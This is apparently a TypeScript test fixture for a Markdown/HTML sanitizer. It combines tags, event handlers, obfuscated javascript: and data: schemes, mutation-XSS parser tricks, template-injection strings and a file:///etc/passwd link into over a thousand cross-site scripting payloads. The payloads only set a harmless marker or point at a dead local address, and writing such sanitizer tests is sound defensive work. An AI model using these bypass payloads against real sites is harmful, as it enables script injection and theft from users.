/** Owns texts that want to become a script, a request or somebody else's markup. What they want sets `globalThis.ran`, or asks `elsewhere`. */

/** An address nobody may be asked at; nothing listens there. */
export const ELSEWHERE = "http://127.0.0.1:9"
const RUN = "globalThis.ran=1"

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "select autofocus",
  "textarea autofocus",
  "details open",
  "marquee",
  "iframe src=x",
  "object data=x",
  "embed src=x",
  "a href=# tabindex=0 autofocus",
  "button autofocus",
  "form",
  "math",
  "style",
  "link rel=stylesheet href=x",
  "x-own tabindex=0 autofocus contenteditable"
]
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onstart",
  "onpointerover",
  "onanimationstart",
  "onclick"
]

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `%6A%61vascript:${RUN}`,
  `javascript&NewLine;:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></script>*/${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>parent.ran=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:${ELSEWHERE}/x`,
  `file:///etc/passwd`,
  `//127.0.0.1:9/x`,
  `\\\\127.0.0.1:9\\x`,
  `${ELSEWHERE}/x.png?what=was-said`
]
/** Where an address may stand in Markdown and HTML. */
const WITH_ADDRESS: ReadonlyArray<(url: string) => string> = [
  (url) => `[a](${url})`,
  (url) => `[a](<${url}>)`,
  (url) => `![a](${url})`,
  (url) => `[![a](${url})](${url})`,
  (url) => `[a][r]\n\n[r]: ${url}`,
  (url) => `![a][r]\n\n[r]: <${url}> "t"`,
  (url) => `<${url}>`,
  (url) => url,
  (url) => `<a href="${url}">a</a>`,
  (url) => `<img src="${url}" srcset="${url} 2x">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><input type=submit formaction="${url}"></form>`,
  (url) => `<svg><a xlink:href="${url}"><text>a</text></a><image href="${url}"/><use href="${url}#x"/></svg>`,
  (url) =>
    `<link rel="prefetch" href="${url}"><base href="${url}"><meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<style>@import "${url}";p{background:url(${url})}</style><p style="background:url(${url})">a</p>`,
  (url) =>
    `<object data="${url}"></object><embed src="${url}"><video poster="${url}"><source src="${url}"></video>`,
  (url) => `<a ping="${url}" href="#">a</a><table background="${url}"><td background="${url}">a</td></table>`
]

/** Whole pieces of markup: what parsers have disagreed about, and what is opened and never closed. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script\n>${RUN}</script\n>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/src=data:,${RUN}>`,
  `<script>${RUN}`,
  `</p><script>${RUN}</script><p>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml <img src=x onerror=${RUN}>?>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><set attributeName=onload to=${RUN} /><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<img src=x onerror="${RUN}" `,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img \u0000src=x onerror=${RUN}>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<a href="x" style="position:fixed;inset:0;z-index:9999" class="skip button main" id="page" data-theme="dark">over everything</a>`,
  `<form id=location><input name=href></form><a id=globalThis></a><img name=getElementById>`,
  `<input type=password autocomplete=current-password name=password>`,
  `<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<div contenteditable draggable=true ondragend=${RUN} onblur=${RUN}>a</div>`,
  `<p is="x-own" slot="a" part="b" popover onbeforetoggle=${RUN}>a</p>`,
  `<audio autoplay><source onerror=${RUN} src=x></audio>`,
  `\`\`\`html"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`"onmouseover="${RUN}\ncode\n\`\`\``,
  `\`\`\`js\n</code></pre><img src=x onerror=${RUN}>`,
  `[a](x "t" onclick=${RUN} ")`,
  `[a](x "&quot; onclick=${RUN} x=&quot;")`,
  `![" onerror="${RUN}](x)`,
  `# <img src=x onerror=${RUN}>`,
  `| a |\n| - |\n| <img src=x onerror=${RUN}> |`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `$\\href{javascript:${RUN}}{a}$ $$\\unicode{<img src=x onerror=${RUN}>}$$`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`
]
/** Where a piece of markup may stand. */
const AROUND: ReadonlyArray<(markup: string) => string> = [
  (markup) => markup,
  (markup) => `Words before ${markup} and after.`,
  (markup) => `> ${markup.replaceAll("\n", "\n> ")}`,
  (markup) => `1. ${markup}\n   - ${markup}`,
  (markup) => `**${markup}** _${markup}_ ~~${markup}~~`,
  (markup) => `[${markup}](https://example.com "${markup}")`,
  (markup) => `<div>\n\n${markup}\n\n</div>`,
  (markup) => `\u202e${markup}\u202c\u200b\ufeff`,
  (markup) => `<details><summary>${markup}</summary>${markup}</details>`
]

/** More than a thousand of them, none twice. */
export const hostileTexts: ReadonlyArray<string> = [
  ...new Set([
    ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${RUN}>a`)),
    ...TAGS.flatMap((tag) => [`<${tag}/${HANDLERS[0]}="${RUN}"/>`, `<${tag.toUpperCase()} ONERROR='${RUN}'`]),
    ...SCHEMES.flatMap((url) => WITH_ADDRESS.map((place) => place(url))),
    ...MARKUP.flatMap((markup) => AROUND.map((place) => place(markup)))
  ])
]
